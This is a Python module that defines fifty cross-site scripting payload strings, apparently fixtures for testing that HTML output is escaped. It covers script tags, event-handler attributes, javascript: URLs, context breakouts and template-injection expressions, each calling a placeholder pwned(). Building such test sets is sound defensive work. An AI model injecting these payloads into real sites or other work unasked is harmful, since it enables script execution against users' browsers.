"""Fifty texts that would run as a script somewhere, were they not shown as text; each calls ``pwned()``."""

from __future__ import annotations

_TAGS = (
    "<script>pwned()</script>", "<SCRIPT>pwned()</SCRIPT>", "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script src=data:,pwned()></script>", "<script\n>pwned()</script\n>", "<script/x>pwned()</script>",
    "<img src=x onerror=pwned()>", "<img src=x onerror=\"pwned()\">", "<IMG SRC=x OnErRoR=pwned()>", "<img/src/onerror=pwned()>",
    "<svg onload=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x>",
    "<body onload=pwned()>", "<iframe src=javascript:pwned()>", "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<details open ontoggle=pwned()>", "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>", "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>", "<object data=javascript:pwned()>", "<embed src=javascript:pwned()>",
    "<a href=javascript:pwned()>x</a>", "<form action=javascript:pwned()><button autofocus>", "<base href=javascript:pwned()//>",
    "<link rel=stylesheet href=javascript:pwned()>", "<style>@import 'javascript:pwned()'</style>", "<math href=javascript:pwned()>x",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>", "<template><script>pwned()</script></template>",
)  # fmt: skip
_BREAKS = (
    "\"><script>pwned()</script>", "'><script>pwned()</script>", "\" onmouseover=\"pwned()", "' onfocus='pwned()' autofocus='",
    "</title><script>pwned()</script>", "</textarea><script>pwned()</script>", "</script><script>pwned()</script>",
    "--><script>pwned()</script>", "]]><script>pwned()</script>", "</style><script>pwned()</script>", "\\\"-pwned()-\\\"",
    "{{constructor.constructor('pwned()')()}}", "${pwned()}", "{% raw '<script>pwned()</script>' %}",
    "\u2028pwned()//", "javascript:pwned()",
)  # fmt: skip
PAYLOADS = (*_TAGS, *_BREAKS)
assert len(set(PAYLOADS)) == 50
